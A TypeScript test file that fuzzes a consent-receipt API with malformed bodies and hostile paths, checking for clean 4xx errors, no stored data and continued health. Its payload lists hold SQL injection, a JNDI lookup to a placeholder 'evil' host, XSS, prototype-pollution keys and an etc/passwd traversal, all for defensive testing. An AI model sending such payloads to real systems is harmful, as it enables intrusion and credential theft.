import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { postReceipt, receipt } from './support/receipts.js';
import { startTestService, type TestService } from './support/service.js';

let service: TestService;

before(async () => {
  service = await startTestService();
});
after(() => service.close());

/** A small deterministic PRNG (mulberry32), so every run sends the same bodies. */
function random(seed: number): () => number {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const FIELDS = ['consentId', 'decision', 'policyVersion', 'policyUrl', 'timestamp', 'language', 'pageUrl', 'userAgent'];
const WRONG_TYPES: unknown[] = [null, 0, 1, -1.5, true, false, 'true', '', [], {}, [1, 2], { $gt: '' }, 1e308];
/** Each is invalid where it is put (no field accepts spaces there, or this length). */
const HOSTILE_STRINGS = [
  "'; drop table receipts; --",
  "1' or '1'='1",
  '0123456789abcdef0123456789abcde\u0000',
  "x' union select password_hash from accounts --",
  '😀'.repeat(600),
  '\u202e\u0644\u0627 RTL',
  'é'.repeat(1500),
  '\ud800 lone surrogate',
  '${jndi:ldap://evil/a}',
  '<script>alert(1)</script> x',
  'A'.repeat(2049),
  'javascript:alert(1)',
  ' ',
];
const BROKEN_JSON = [
  '',
  '{',
  '{"consentId":',
  '{"a":1,}',
  "{'consentId':'x'}",
  'NaN',
  'undefined',
  '['.repeat(3000) + ']'.repeat(3000),
  '\ufeff{}',
  '{"a":1}{"b":2}',
  '{"consentId":"\\ud800"}',
  'null',
  '1',
  '"receipt"',
  '[]',
  'true',
];

function hostileBodies(count: number): Array<{ body: string; contentType: string; kind: string }> {
  const next = random(94);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)]!;
  const bodies: Array<{ body: string; contentType: string; kind: string }> = [];
  for (let index = 0; bodies.length < count; index++) {
    const contentType = pick(['text/plain;charset=UTF-8', 'application/json', 'text/plain']);
    const base = receipt();
    switch (index % 7) {
      case 0: {
        const field = pick(FIELDS);
        // Any text is a user agent and "true" a policy version; the other fields refuse these strings too.
        const value = pick(
          ['userAgent', 'policyVersion'].includes(field)
            ? WRONG_TYPES.filter((wrong) => typeof wrong !== 'string')
            : WRONG_TYPES,
        );
        bodies.push({ kind: 'wrong type', contentType, body: JSON.stringify({ ...base, [field]: value }) });
        break;
      }
      case 1:
        bodies.push({
          kind: 'hostile string',
          contentType,
          body: JSON.stringify({
            ...base,
            [pick(FIELDS.filter((field) => field !== 'userAgent'))]: pick(HOSTILE_STRINGS),
          }),
        });
        break;
      case 2: {
        const decision = {
          necessary: true,
          statistics: true,
          marketing: false,
          [pick(['necessary', 'statistics', 'marketing'])]: pick(
            WRONG_TYPES.filter((value) => typeof value !== 'boolean'),
          ),
        };
        bodies.push({ kind: 'wrong decision', contentType, body: JSON.stringify({ ...base, decision }) });
        break;
      }
      case 3: {
        const where = pick(['top', 'decision']);
        const poisoned = where === 'top' ? '{"__proto__":{"isAdmin":true},' : '{"constructor":{"prototype":{"x":1}},';
        bodies.push({ kind: 'prototype keys', contentType, body: poisoned + JSON.stringify(base).slice(1) });
        break;
      }
      case 4:
        bodies.push({ kind: 'broken JSON', contentType, body: pick(BROKEN_JSON) });
        break;
      case 5: {
        const missing = { ...base };
        delete missing[pick(FIELDS)];
        bodies.push({
          kind: 'missing field',
          contentType,
          body: JSON.stringify({ ...missing, [pick(['extra', 'ip', 'toString', 'valueOf'])]: 'x' }),
        });
        break;
      }
      default:
        bodies.push({
          kind: 'huge',
          contentType,
          body: JSON.stringify({ ...base, userAgent: pick(['x', 'ж', '😀']).repeat(4000 + Math.floor(next() * 8000)) }),
        });
    }
  }
  return bodies;
}

test('600 hostile receipts: each 4xx with an { error, message } and no stack, nothing stored, the service keeps answering', async () => {
  const bodies = hostileBodies(600);
  const statuses = new Map<number, number>();
  for (let start = 0; start < bodies.length; start += 20) {
    await Promise.all(
      bodies.slice(start, start + 20).map(async ({ body, contentType, kind }) => {
        const response = await postReceipt(service.url, body, { 'content-type': contentType });
        const text = await response.text();
        const where = `${kind}: ${body.slice(0, 400)} → ${response.status} ${text.slice(0, 200)}`;
        assert.ok(response.status >= 400 && response.status < 500, where);
        const answer = JSON.parse(text) as { error: unknown; message: unknown };
        assert.equal(typeof answer.error, 'string', where);
        assert.equal(typeof answer.message, 'string', where);
        assert.doesNotMatch(text, /\bat .+:\d+:\d+|node_modules|\.ts\b|stack/i, where);
        statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
      }),
    );
  }
  assert.ok((statuses.get(400) ?? 0) > 400, JSON.stringify([...statuses]));
  assert.ok((statuses.get(413) ?? 0) > 0, JSON.stringify([...statuses]));
  const [{ count }] = (await service.db.query<{ count: number }>('select count(*)::int as count from receipts')) as [
    { count: number },
  ];
  assert.equal(count, 0);
  const [{ rollup }] = (await service.db.query<{ rollup: number }>(
    'select count(*)::int as rollup from daily_rollup',
  )) as [{ rollup: number }];
  assert.equal(rollup, 0);
  assert.equal((await service.request('/healthz')).status, 200);
  assert.equal((await postReceipt(service.url, receipt())).status, 201);
});

test('hostile paths and queries on the other endpoints are 4xx without a stack', async () => {
  const token = await service.account('hostile-dpo', 'dpo');
  const paths = [
    "/v1/consents/'%20or%201=1--",
    '/v1/consents/%00',
    '/v1/receipts/export?from=2026-01-01%27;drop%20table%20receipts;--',
    '/v1/receipts/export?format=csv&format=jsonl',
    '/v1/report?from=0&to=9999-99-99',
    '/v1/report?host=a&host=b',
    '/v1/sites/..%2F..%2Fetc%2Fpasswd/consent.json',
    '/v1/sites/%E2%80%AE/history',
    '/v1/nothing',
  ];
  for (const path of paths) {
    const response = await service.request(path, { headers: { authorization: `Bearer ${token}` } });
    const text = await response.text();
    assert.ok(response.status >= 400 && response.status < 500, `${path} → ${response.status} ${text}`);
    assert.doesNotMatch(text, /\bat .+:\d+:\d+|node_modules|stack/i, path);
  }
});
